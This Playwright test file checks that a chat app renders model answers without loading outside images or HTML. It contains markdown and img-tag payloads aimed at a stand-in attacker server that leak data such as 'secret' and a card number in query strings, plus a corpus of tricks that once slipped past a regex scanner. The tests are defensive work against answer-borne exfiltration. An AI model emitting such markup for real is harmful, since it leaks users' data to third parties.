"""A model answer cannot make the browser load anything: images and raw HTML in the answer are
shown as text (while streaming and after), and a link's real address is written out.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from components.conversation.exchange import AnswerMeta
from components.conversation.history import Conversation
from components.conversation.transfer import export_json
from components.devtools import image_factory as make
from components.devtools.browser import (
    assert_no_exception,
    console_errors,
    send_prompt,
    shots_dir,
    switch_language,
    wait_for_idle,
)
from components.devtools.upstream import FakeUpstream, sse
from components.errors import AuthError, ImageError
from components.i18n import t
from components.images.prepare import prepare_image
from components.ui import state_keys as keys
from components.usage import Usage
from tests.e2e.test_compare import open_compare

SHOTS = shots_dir("safety")
DESKTOP = (1280, 900)
PHONE = (390, 844)


@pytest.fixture(scope="module")
def app_env(operator_env: dict[str, str]) -> dict[str, str]:
    return operator_env


@pytest.fixture
def tracker() -> Iterator[FakeUpstream]:
    """A second server standing in for an attacker's: it records every request it gets."""
    with FakeUpstream() as fake:
        yield fake


def test_answer_cannot_load_images_or_html_and_shows_link_addresses(app, new_page, up, tracker):
    origin = tracker.origin
    # Split the way a stream may split it: "!" and "<" arrive before what makes them an image/tag.
    deltas = [
        "图里有一段隐藏的文字。\n\n",
        "!",
        f"[x]({origin}/leak.png?q=secret)\n\n",
        "<",
        f'img src="{origin}/leak2.png">\n\n',
        "更多信息见 ",
        f"[docs]({origin}/docs)",
        "。",
    ]
    up.enqueue(sse(deltas, delay=0.1))
    page = new_page(app)
    send_prompt(page, "图里写了什么？")

    answer = page.get_by_test_id("stChatMessage").last
    expect(answer).to_contain_text("更多信息见")
    wait_for_idle(page)
    expect(answer.locator(".kantu-quiet")).to_be_visible()  # stream complete
    page.wait_for_load_state("networkidle")

    assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    expect(page.locator(f'[srcset*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    # What the model wrote is shown, as text.
    expect(answer).to_contain_text(f"{origin}/leak.png?q=secret")
    expect(answer).to_contain_text(f'img src="{origin}/leak2.png"')
    expect(answer.get_by_text(f"{origin}/docs")).to_be_visible()
    link = answer.get_by_role("link", name=f"{origin}/docs")
    expect(link).to_have_attribute("href", f"{origin}/docs")
    assert tracker.requests == []
    assert_no_exception(page)
    assert console_errors(page) == []


def test_blocked_image_is_a_placeholder_and_html_link_shows_its_clean_address(
    app, new_page, up, tracker
):
    """One answer, four screens on one page: Chinese on a desktop, then on a phone, then English
    (switched: the answer is drawn again) on a phone, then on a desktop. On each, the pictures
    are muted placeholders, the HTML links show their clean addresses, the quiet line reads as
    words in the page's language, and nothing was asked of the tracker."""
    origin = tracker.origin
    picture, html_picture, page_url = f"{origin}/x.png", f"{origin}/y.png", f"{origin}/page"
    deltas = [
        f"![logo]({picture})\n\n",
        f'<img src="{html_picture}">\n\n',
        f"See <a href=\"{page_url}\">x</a>, and <a href='{page_url}?a=1&amp;b=2'>y</a>.",
    ]
    up.enqueue(
        sse(
            deltas,
            model="gpt-4o-mini-2024-07-18",
            usage={"prompt_tokens": 8511, "completion_tokens": 34, "total_tokens": 8545},
        )
    )
    page = new_page(app, locale="zh-CN", viewport=DESKTOP)
    send_prompt(page, "图里写了什么？")
    answer = page.get_by_test_id("stChatMessage").last
    caption = answer.locator(".kantu-quiet")
    expect(caption).to_be_visible()  # stream complete, the final render is on the page
    wait_for_idle(page)
    for lang, viewport in (("zh", DESKTOP), ("zh", PHONE), ("en", PHONE), ("en", DESKTOP)):
        if lang == "en" and viewport == PHONE:
            switch_language(page, "en")
        elif viewport[0] != (page.viewport_size or {}).get("width"):
            page.set_viewport_size({"width": viewport[0], "height": viewport[1]})
            page.wait_for_timeout(400)  # the sidebar and columns re-flow with a transition
            wait_for_idle(page)
        expect(caption).to_be_visible()
        page.wait_for_load_state("networkidle")

        # The picture: a muted placeholder with its alt text and its address as code, not a link.
        expect(answer.get_by_text("🖼️")).to_have_count(1)
        expect(answer.locator("em", has_text="logo")).to_be_visible()
        expect(answer.locator("code", has_text=picture)).to_have_text(picture)
        expect(answer.locator("code", has_text=html_picture)).to_have_text(
            f'<img src="{html_picture}">'
        )
        expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
        expect(page.locator(f'[srcset*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
        expect(page.locator(f'a[href*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
        # The HTML links: their text and their clean address, as code (no trailing quote or ">").
        expect(answer).to_contain_text(f"See x ({page_url}), and y ({page_url}?a=1&b=2).")
        expect(answer.locator("code", has_text=page_url).first).to_have_text(page_url)
        assert "%22" not in answer.inner_text() and '">' not in answer.inner_text().replace(
            f'<img src="{html_picture}">', ""
        )
        # The quiet line reads as words, in the page's language.
        tokens = t("meta.tokens", lang, prompt="8,511", completion="34")
        expect(caption).to_contain_text(f"gpt-4o-mini · {tokens}")
        expect(caption).not_to_contain_text("2024-07-18")

        SHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=SHOTS / f"answer-{lang}-{viewport[0]}.png", full_page=True)
        assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
        assert_no_exception(page)
        assert console_errors(page) == []


# --- issue 19, item 5: a corpus where the regex scanner and the renderer disagreed --------------


def hostile_corpus(origin: str) -> list[str]:
    """Answers that made Chromium load an outside image through the old scanner, each with its
    own address on the tracker (``leak-N``) so a request would say which one got through."""
    return [
        f"[source](http://x/`)![]({origin}/leak-1?q=card-4242)` ",
        f"[source](<http://x/`>)![]({origin}/leak-2)` ",
        f'[source](http://x/ "`")![]({origin}/leak-3)` ',
        f"[source](http://x/ '`')![]({origin}/leak-4)` ",
        f"```a`b\n![]({origin}/leak-5)\n```",
        f"    ```\n![]({origin}/leak-6)\n    ```",
        f"\t```\n![]({origin}/leak-7)\n\t```",
        f"$`$ ![]({origin}/leak-8) `$`",
        f"&lt;img src={origin}/leak-9&gt; <img src={origin}/leak-10>",
        f"[r]: {origin}/leak-11\n\n![x][r] [y][r]",
    ]


def outside_requests(page, app_url: str) -> list[str]:
    """Start recording every request the page makes to anywhere but the app; return the list."""
    own = app_url.split("/", 3)[:3]
    outside: list[str] = []

    def record(request) -> None:
        url = request.url
        if not url.startswith(("data:", "blob:")) and url.split("/", 3)[:3] != own:
            outside.append(url)

    page.on("request", record)
    return outside


def _sidebar_section(page, title: str):
    sidebar = page.get_by_test_id("stSidebar")
    if not sidebar.is_visible() or sidebar.get_attribute("aria-expanded") == "false":
        page.get_by_test_id("stExpandSidebarButton").click()
    section = sidebar.get_by_test_id("stExpander").filter(
        has=page.locator("summary").get_by_text(title, exact=True)  # not the saved chats' list
    )
    details = section.get_by_test_id("stExpanderDetails")
    if not details.is_visible():
        section.locator("summary").click()
    expect(details).to_be_visible()
    return section


def test_hostile_corpus_loads_nothing_live_or_recorded(app, new_page, up, tracker):
    corpus = hostile_corpus(tracker.origin)
    up.enqueue(sse(["\n\n".join(corpus[:5]), "\n\n", "\n\n".join(corpus[5:])], delay=0.2))
    page = new_page(app, locale="en-US")
    outside = outside_requests(page, app.url)
    send_prompt(page, "What does it say?")
    answer = page.get_by_test_id("stChatMessage").last
    expect(answer.locator(".kantu-quiet")).to_be_visible()  # the recorded answer
    wait_for_idle(page)
    page.wait_for_load_state("networkidle")
    assert outside == [] and tracker.requests == [], outside
    expect(answer).to_contain_text(f"{tracker.origin}/leak-1?q=card-4242")
    expect(answer).to_contain_text(f"{tracker.origin}/leak-6")
    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    assert_no_exception(page)


def test_hostile_corpus_in_compare_columns_loads_nothing(app, new_page, up, tracker):
    corpus = hostile_corpus(tracker.origin)
    up.reset()
    up.default = sse(["\n\n".join(corpus)], delay=0.1)
    page = new_page(app, locale="en-US")
    outside = outside_requests(page, app.url)
    open_compare(page, "en")
    uploader = page.locator(f".st-key-{keys.COMPARE_FILES}")
    uploader.locator("input[type=file]").set_input_files(
        {"name": "cat.jpg", "mimeType": "image/jpeg", "buffer": make.photo_jpeg(400, 300)}
    )
    expect(uploader.get_by_test_id("stFileChipIconSpinner")).to_have_count(0)
    page.locator(f".st-key-{keys.COMPARE_QUESTION}").locator("input").fill("What is it?")
    page.keyboard.press("Enter")
    wait_for_idle(page)
    page.locator(f".st-key-{keys.COMPARE_RUN_BUTTON}").locator("button").click()
    column = page.locator(f".st-key-{keys.compare_column_key('col', 'A')}")
    expect(column).to_contain_text("⏱", timeout=20_000)  # the finished column
    expect(page.locator(f".st-key-{keys.compare_column_key('vote', 'A')}")).to_be_visible()
    wait_for_idle(page)
    page.wait_for_load_state("networkidle")
    assert outside == [] and tracker.requests == [], outside
    expect(column).to_contain_text(f"{tracker.origin}/leak-1?q=card-4242")
    assert_no_exception(page)


def test_hostile_import_loads_nothing(app, new_page, up, tracker, tmp_path):
    origin = tracker.origin
    evil = f"![]({origin}/name.png)<img src={origin}/tag.png>"
    photo = prepare_image(make.photo_jpeg(320, 240), name=f"cat{evil}.jpg", model="gpt-4o")
    conv = Conversation()
    conv.add_user(f"what {evil}", [photo], refusals=[ImageError("too_many_bytes", f"x{evil}")])
    meta = AnswerMeta("ok", f"gpt-4o{evil}", f"real{evil}", "stop", Usage(10, 2, 12))
    conv.add_answer("\n\n".join(hostile_corpus(origin)), meta=meta)
    conv.add_user("again", [])
    conv.add_answer("", status="error", error=AuthError(f"Incorrect key {evil}"))
    exported = tmp_path / "hostile.json"
    exported.write_bytes(export_json(conv))

    page = new_page(app, locale="en-US")
    outside = outside_requests(page, app.url)
    tools = _sidebar_section(page, t("tools.title", "en"))
    tools.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(exported)
    expect(page.get_by_text(t("transfer.imported", "en", entries=4, pictures=1))).to_be_visible()
    wait_for_idle(page)
    page.wait_for_load_state("networkidle")
    assert outside == [] and tracker.requests == [], outside
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text(f"{origin}/leak-5")
    assert_no_exception(page)
